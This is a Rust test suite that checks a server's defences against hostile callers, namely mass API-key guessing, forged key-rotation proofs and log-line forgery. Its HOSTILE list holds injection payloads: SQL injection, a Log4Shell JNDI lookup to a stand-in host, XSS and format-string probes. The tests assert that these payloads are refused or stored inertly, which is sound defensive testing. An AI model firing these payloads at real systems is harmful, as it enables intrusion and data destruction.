//! Hostile callers: keys guessed by the thousand, and text that means to be SQL or another line of the log.

use std::collections::BTreeSet;

use aws_lc_rs::signature::Ed25519KeyPair;
use axum::http::Method;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use tacit_proto::v1::DeviceInfo;
use tacit_server::clock::Ambient;
use tacit_server::domain::Role;
use tonic::Code;

use crate::common::cluster;
use crate::common::device::{Device, enrol, enrol_request};
use crate::common::server::{START, Server};
use crate::common::windows::{opened, session_id};
use crate::http::Api;
use crate::process::Process;

const GUESSES: usize = 10_000;
const AT_ONCE: usize = 16;

fn guess() -> String {
    let mut bytes = [0; 32];
    getrandom::fill(&mut bytes).unwrap();
    format!("tacit_{}", URL_SAFE_NO_PAD.encode(bytes))
}

/// Guesses so many keys; every answer there was, without its request's id.
async fn guess_keys(client: &reqwest::Client, url: &str, guesses: usize) -> BTreeSet<String> {
    let mut guessing = tokio::task::JoinSet::new();
    for _ in 0..AT_ONCE {
        let (client, url) = (client.clone(), format!("{url}/v1/devices"));
        guessing.spawn(async move {
            let mut answers = BTreeSet::new();
            for _ in 0..guesses / AT_ONCE {
                let answer = client.get(&url).bearer_auth(guess()).send().await.unwrap();
                let status = answer.status();
                let mut body: Value = answer.json().await.unwrap();
                body.as_object_mut().unwrap().remove("request_id").unwrap();
                answers.insert(format!("{status} {body}"));
            }
            answers
        });
    }
    guessing.join_all().await.into_iter().flatten().collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_guesses_cost_one_cheap_refusal_each_and_tell_nothing() {
    let data = cluster::directory();
    let server = Process::start(data.path()).await;
    let log = std::fs::read_to_string(&server.log).unwrap();
    let key = log.lines().find_map(|line| line.strip_prefix("admin API key: ")).unwrap().to_owned();
    let ca = std::fs::read(data.path().join("tls/ca.pem")).unwrap();
    let ca = reqwest::Certificate::from_pem(&ca).unwrap();
    let client = reqwest::Client::builder().no_proxy().tls_certs_only([ca]).build().unwrap();

    // Connections, statements and buffers that stay are made by the first.
    guess_keys(&client, &server.http, 800).await;
    let before = server.resident();
    let answers = guess_keys(&client, &server.http, GUESSES).await;
    let grown = server.resident().saturating_sub(before);
    assert_eq!(answers.len(), 1, "{answers:?}");
    assert!(answers.first().unwrap().contains("the API key is unknown, expired or revoked"), "{answers:?}");
    assert!(grown < 8 * 1_024 * 1_024, "{grown} bytes for {GUESSES} guesses");

    // Who has a key is served as before, and sees the guesses.
    let metrics = client.get(format!("{}/metrics", server.http)).bearer_auth(key).send().await.unwrap();
    let metrics = metrics.text().await.unwrap();
    let refused =
        metrics.lines().find(|l| l.starts_with("tacit_http_refused_total{reason=\"unauthenticated\"}"));
    let refused: usize = refused.unwrap().rsplit(' ').next().unwrap().parse().unwrap();
    assert_eq!(refused, 800 + GUESSES);
    server.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_keys_at_the_log_in_and_forged_calls_for_another_key_are_counted() {
    let data = cluster::directory();
    let server = Process::start(data.path()).await;
    let log = std::fs::read_to_string(&server.log).unwrap();
    let key = log.lines().find_map(|line| line.strip_prefix("admin API key: ")).unwrap().to_owned();
    let ca = std::fs::read_to_string(data.path().join("tls/ca.pem")).unwrap();
    let certificate = reqwest::Certificate::from_pem(ca.as_bytes()).unwrap();
    let client = reqwest::Client::builder().no_proxy().tls_certs_only([certificate]).build().unwrap();
    let post = |path: &str, body: Value| {
        let request = client.post(format!("{}{path}", server.http)).bearer_auth(&key);
        request.header("content-type", "application/json").body(body.to_string()).send()
    };
    for wrong in ["tacit_wrong", "", "tacit_"] {
        assert_eq!(post("/auth/key", json!({ "key": wrong })).await.unwrap().status(), 401);
    }
    let made = post("/v1/enrolment-tokens", json!({ "uses": 2 })).await.unwrap().text().await.unwrap();
    let made: Value = serde_json::from_str(&made).unwrap();
    let enrol =
        async || Device::enrol(&server.grpc, Some(&ca), made["token"].as_str().unwrap()).await.unwrap();
    let (mut device, mut forger) = (enrol().await, enrol().await);
    forger.id = device.id;
    let now = Ambient::system().now();
    let fresh = || Ed25519KeyPair::generate().unwrap();
    let refused = device.rotate(fresh(), &[], now).await.unwrap_err();
    assert_eq!(refused.code(), Code::InvalidArgument, "{refused}");
    let next = fresh();
    let proof = forger.rotation_proof(&next);
    let refused = forger.rotate(next, &proof, now).await.unwrap_err();
    assert_eq!(refused.code(), Code::Unauthenticated, "{refused}");

    let metrics = client.get(format!("{}/metrics", server.http)).bearer_auth(&key).send().await.unwrap();
    let metrics = metrics.text().await.unwrap();
    for counted in [
        "tacit_http_refused_total{reason=\"unauthenticated\"} 3",
        "tacit_key_rotations_refused_total{reason=\"invalid-argument\"} 1",
        "tacit_key_rotations_refused_total{reason=\"unauthenticated\"} 1",
    ] {
        assert!(metrics.lines().any(|line| line == counted), "{counted}: {metrics}");
    }
    server.stop();
}

const HOSTILE: &[&str] = &[
    "'; drop table device; --",
    "' or '1'='1",
    "\\'; select pg_sleep(9); --",
    "$1 || (select hash from api_key)",
    "%' union select 1, 2, 3 --",
    "{}{0}%s%n",
    "${jndi:ldap://elsewhere.example/x}",
    "<script>alert(1)</script>",
    "\u{202e}\u{feff}<script>",
];

#[tokio::test]
async fn text_that_means_to_be_sql_is_text() {
    let api = Api::of(Server::start().await);
    let admin = api.key(Role::Admin).await;
    for (at, text) in HOSTILE.iter().enumerate() {
        // What people write.
        let order = json!({ "name": text, "role": "viewer" });
        let made = api.give(Method::POST, "/v1/api-keys", &admin, &order).await;
        let change = json!({ "follows": at, "policy": {}, "reason": text });
        let put = api.give(Method::PUT, "/v1/policies/default", &admin, &change).await;
        if text.contains('\u{202e}') {
            assert_eq!((made.status.as_u16(), put.status.as_u16()), (400, 400));
        } else {
            assert_eq!(
                (&made.json()["name"], &put.json()["current"]["reason"]),
                (&json!(text), &json!(text))
            );
        }
        // What devices say.
        let key = Ed25519KeyPair::generate().unwrap();
        let mut request = enrol_request(&key, &api.server.token().await);
        let said = || (*text).to_owned();
        let device =
            DeviceInfo { name: said(), os: "linux".into(), os_version: said(), agent_version: said() };
        request.device = Some(device);
        let id = enrol(&api.server.url, None, request).await.unwrap();
        let device = api.ok(&format!("/v1/devices/{id}"), &admin).await;
        assert_eq!((&device["name"], &device["os_version"]), (&json!(text), &json!(text)));
        let device = api.server.device().await;
        let session = session_id();
        let mut stream = device.stream(START).await.unwrap();
        stream.send(&opened(session, START, text)).await;
        stream.acked(session, 1).await.unwrap();
        // What is asked for.
        let asked: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let path = asked.replace('+', "%20");
        for path in [
            format!("/v1/policies/{path}"),
            format!("/v1/devices/{path}"),
            format!("/v1/devices?after={asked}"),
            format!("/v1/sessions?verdict={asked}"),
            format!("/v1/sessions?subject={asked}"),
            format!("/v1/verdicts?{asked}=1"),
            format!("/auth/callback?state={asked}&code={asked}"),
        ] {
            let answer = api.call(Method::GET, &path, Some(&admin)).await;
            assert!([400, 404].contains(&answer.status.as_u16()), "{path}: {}", answer.text);
        }
    }
    let devices = i64::try_from(HOSTILE.len() * 2).unwrap();
    assert_eq!(api.server.count("select count(*) from device").await, devices);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nobody_writes_a_line_of_the_log_but_the_server() {
    let data = cluster::directory();
    let server = Process::start(data.path()).await;
    let log = || std::fs::read_to_string(&server.log).unwrap();
    let key = log().lines().find_map(|line| line.strip_prefix("admin API key: ")).unwrap().to_owned();
    let ca = std::fs::read(data.path().join("tls/ca.pem")).unwrap();
    let ca = reqwest::Certificate::from_pem(&ca).unwrap();
    let client = reqwest::Client::builder().no_proxy().tls_certs_only([ca]).build().unwrap();
    let forged = "x\n2026-01-01T00:00:00Z  INFO forged: \u{1b}[31madmin logged in\r\n";
    let url = |path: &str| format!("{}{path}", server.http);
    let asked: String = url::form_urlencoded::byte_serialize(forged.as_bytes()).collect();
    for request in [
        client.post(url("/v1/api-keys")).json(&json!({ "name": forged, "role": "viewer" })),
        client
            .put(url("/v1/policies/default"))
            .json(&json!({ "follows": 0, "policy": {}, "reason": forged })),
        client
            .put(url("/v1/policies/forged"))
            .json(&json!({ "follows": 0, "policy": { forged: 1 }, "reason": "x" })),
        client.post(url("/auth/key")).json(&json!({ "key": forged })),
        client.get(url(&format!("/v1/policies/{}", asked.replace('+', "%20")))),
        client.get(url(&format!("/v1/devices?after={asked}"))),
        client.get(url(&format!("/{}", asked.replace('+', "%20")))),
        client.get(url("/v1/devices")).header("x-request-id", "forged: admin logged in"),
    ] {
        let answer = request.bearer_auth(&key).send().await.unwrap();
        assert!(!answer.status().is_server_error(), "{}", answer.text().await.unwrap());
    }
    let ca = std::fs::read_to_string(data.path().join("tls/ca.pem")).unwrap();
    let pair = Ed25519KeyPair::generate().unwrap();
    let mut request = enrol_request(&pair, forged);
    request.device = Some(DeviceInfo { name: forged.to_owned(), ..DeviceInfo::default() });
    assert!(enrol(&server.grpc.replace("127.0.0.1", "localhost"), Some(&ca), request).await.is_err());
    let (log, path) = (log(), server.log.clone());
    server.stop();
    let foreign: Vec<&str> = log.lines().filter(|line| line.contains("forged: ")).collect();
    assert!(foreign.is_empty(), "{}: {foreign:?}", path.display());
    let of_server = |line: &&str| {
        let stamped = line.len() > 27 && line.as_bytes()[4] == b'-' && line.as_bytes()[10] == b'T';
        !stamped && !line.starts_with("admin API key: ")
    };
    assert_eq!(log.lines().filter(of_server).collect::<Vec<_>>(), Vec::<&str>::new());
}
